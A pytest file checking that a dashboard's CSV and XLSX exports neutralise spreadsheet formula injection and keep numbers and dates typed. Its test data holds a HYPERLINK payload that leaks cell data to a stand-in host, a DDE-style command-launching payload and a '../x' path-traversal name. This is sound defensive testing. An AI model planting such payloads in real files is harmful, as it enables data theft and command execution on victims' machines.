"""The panel's downloads of a table as shown (`ui.export_buttons`: warehouse.exports' CSV and XLSX): text
that starts like a formula is made inert; numbers and dates stay numbers and dates."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from datetime import UTC, date, datetime

import pandas as pd
import pytest
from openpyxl import load_workbook

from dashboard.api_client import ApiClient, ApiError
from warehouse.exports import inert, to_csv_bytes, to_xlsx_bytes

PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A1,"Open")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
NUMBER = re.compile(r"[-+]?\d[\d.,\u202f ]*")  # a signed number as text: read as a number, never run


def _frame() -> pd.DataFrame:
    """A table as a page shows it: who (name, email, user agent), figures, and when."""
    n = len(PAYLOADS)
    return pd.DataFrame(
        {
            "name": PAYLOADS,
            "email": [f"{p}@example.com" for p in PAYLOADS],
            "user_agent": list(reversed(PAYLOADS)),
            "balance": [-2.5, 0.0, 10.25, -1.0, 3.0, 4.0],
            "calls": list(range(-3, n - 3)),
            "shown": [
                "-1,234.5",
                "-1\u202f234,5",
                "12",
                "—",
                "+7",
                "-0.5",
            ],  # numbers as the panel writes them
            "day": [date(2026, 11, d) for d in range(1, n + 1)],
            "at": pd.to_datetime([datetime(2026, 11, d, 12, tzinfo=UTC) for d in range(1, n + 1)]),
        }
    )


def test_csv_download_makes_formulas_inert_and_keeps_numbers_as_numbers():
    rows = list(csv.reader(io.StringIO(to_csv_bytes(_frame()).decode("utf-8"), newline="")))
    header, body = rows[0], rows[1:]
    column = {name: index for index, name in enumerate(header)}
    for name in ("name", "user_agent"):
        assert sorted(row[column[name]] for row in body) == sorted("'" + p for p in PAYLOADS)
    assert [row[column["email"]] for row in body] == [f"'{p}@example.com" for p in PAYLOADS]
    assert [row[column["balance"]] for row in body] == ["-2.5", "0.0", "10.25", "-1.0", "3.0", "4.0"]
    assert [row[column["calls"]] for row in body] == ["-3", "-2", "-1", "0", "1", "2"]
    assert [row[column["shown"]] for row in body] == ["-1,234.5", "-1\u202f234,5", "12", "—", "+7", "-0.5"]
    for row in body:
        for name in ("name", "email", "user_agent"):
            assert not row[column[name]].startswith(FORMULA_STARTS), row


def test_xlsx_download_holds_no_formula_and_typed_numbers_and_dates():
    sheet = load_workbook(io.BytesIO(to_xlsx_bytes(_frame(), "people"))).active
    rows = [list(row) for row in sheet.iter_rows()]
    column = {cell.value: index for index, cell in enumerate(rows[0])}
    body = rows[1:]
    for cell in (cell for row in rows for cell in row):
        assert cell.data_type != "f", cell.value
        if cell.data_type == "s":
            assert not cell.value.startswith(FORMULA_STARTS) or NUMBER.fullmatch(cell.value), repr(cell.value)
    for name in ("name", "user_agent"):  # (XML reads a CR back as a LF)
        assert sorted(row[column[name]].value for row in body) == sorted(
            "'" + p.replace("\r", "\n") for p in PAYLOADS
        )
    balances = [row[column["balance"]] for row in body]
    assert [c.data_type for c in balances] == ["n"] * len(body)  # Excel sums them
    assert sum(c.value for c in balances) == 13.75
    assert [row[column["calls"]].value for row in body] == [-3, -2, -1, 0, 1, 2]
    for name in ("day", "at"):
        assert all(row[column[name]].is_date for row in body), name  # dates sort as dates
    assert body[0][column["at"]].value == datetime(2026, 11, 1, 12)  # UTC (XLSX has no time zones)


def test_the_rule_itself():
    assert [inert(p) for p in PAYLOADS] == ["'" + p for p in PAYLOADS]
    assert [inert(v) for v in ("\uff1dcmd", "\nx", "\x00=x", "plain", "", "o'brien", "a=b")] == [
        "'\uff1dcmd", "'\nx", "'\x00=x", "plain", "", "o'brien", "a=b",
    ]  # fmt: skip
    assert [inert(v) for v in (-2.5, -3, "-2", "-1,234.5", "-1 234,5", "+7", None, date(2026, 1, 1))] == [
        -2.5, -3, "-2", "-1,234.5", "-1 234,5", "+7", None, date(2026, 1, 1),
    ]  # fmt: skip
    assert [inert(v) for v in ("-2+3", "-1e3", "+1+1", "-", "-2 -3")] == [
        "'-2+3", "'-1e3", "'+1+1", "'-", "'-2 -3",
    ]  # fmt: skip


def test_downloading_a_table_as_shown_is_in_the_audit_log(panel):
    """The table is made into a file in the panel; the click reports it to the API's audit log."""
    panel("plans", role="admin")  # signs the admin in, to read the log
    app = panel("plans", role="analyst")
    app.download_button(key="plans:xlsx").click().run()
    assert not app.error, [e.value for e in app.error]
    admin = ApiClient(panel.api_url, panel.sessions["admin"].token)
    (entry,) = admin.get("/api/v1/admin/audit", action="export.download")
    assert (entry["actor_email"], entry["target_type"], entry["target_id"]) == (
        "analyst@example.com", "panel_table", "plans",
    )  # fmt: skip
    assert entry["after"]["format"] == "xlsx" and entry["after"]["rows"] >= 1
    # A user may not write into the audit log; a name that is not a file name is refused.
    analyst = ApiClient(panel.api_url, panel.sessions["analyst"].token)
    for body in ({"name": "../x", "format": "csv", "rows": 1, "columns": []},
                 {"name": "x", "format": "pdf", "rows": 1, "columns": []}):  # fmt: skip
        with pytest.raises(ApiError) as refused:
            analyst.post("/api/v1/admin/audit/downloads", body)
        assert refused.value.status == 422


def _table_page():  # run by AppTest from its source: it imports what it uses
    import decimal
    from datetime import date

    from dashboard import i18n, ui

    ui.table(
        [
            {
                "name": name,
                "balance": i18n.number(balance, 2),
                "fraction": i18n.percent(share),  # a column no label translates (its name is the header)
                "since": i18n.moment(since),
                "day": i18n.day(date(2026, 11, 22)),
                "last": i18n.moment(None),
            }
            for name, balance, share, since in (
                ("=cmd|' /C calc'!A0", decimal.Decimal("1234.5"), 0.125, "2026-11-22T14:05:00+00:00"),
                ("ada", decimal.Decimal("-2"), 0.5, "2026-11-23T08:00:00+00:00"),
            )
        ],
        "people",
    )


def test_a_table_shown_with_localised_numbers_downloads_typed_cells(monkeypatch):
    """The page shows "1 234,50" and "22.11.2026 14:05 UTC" (Russian); the spreadsheet gets the number and the
    time, and the text that starts like a formula stays inert."""
    from streamlit.delta_generator import DeltaGenerator
    from streamlit.testing.v1 import AppTest

    files: dict[str, Callable[[], bytes]] = {}  # each button's data: made when it is clicked
    original = DeltaGenerator.download_button

    def keep(dg, label, data, *args, **kwargs):
        files[kwargs["key"]] = data
        return original(dg, label, data, *args, **kwargs)

    monkeypatch.setattr(DeltaGenerator, "download_button", keep)
    app = AppTest.from_function(_table_page)
    app.session_state["locale"] = "ru"
    app.run()
    assert not app.exception, app.exception
    shown = app.dataframe[0].value
    assert list(shown["balance"]) == ["1\u202f234,50", "-2,00"] and shown["last"][0] == "—"

    sheet = load_workbook(io.BytesIO(files["people:xlsx"]())).active
    rows = [[cell for cell in row] for row in sheet.iter_rows()]
    column = {cell.value: index for index, cell in enumerate(rows[0])}
    first, second = rows[1], rows[2]
    assert first[column["name"]].value == "'=cmd|' /C calc'!A0"
    assert first[column["balance"]].data_type == "n" and first[column["balance"]].value == 1234.5
    assert second[column["balance"]].value == -2
    assert first[column["fraction"]].value == 12.5
    assert first[column["since"]].is_date and first[column["since"]].value == datetime(2026, 11, 22, 14, 5)
    assert first[column["День"]].is_date  # a warehouse column: under its label, as shown (decision 0039)
    assert first[column["last"]].value is None
    table = list(csv.DictReader(io.StringIO(files["people:csv"]().decode("utf-8"))))
    assert table[0]["balance"] == "1234.5" and table[0]["name"].startswith("'=")
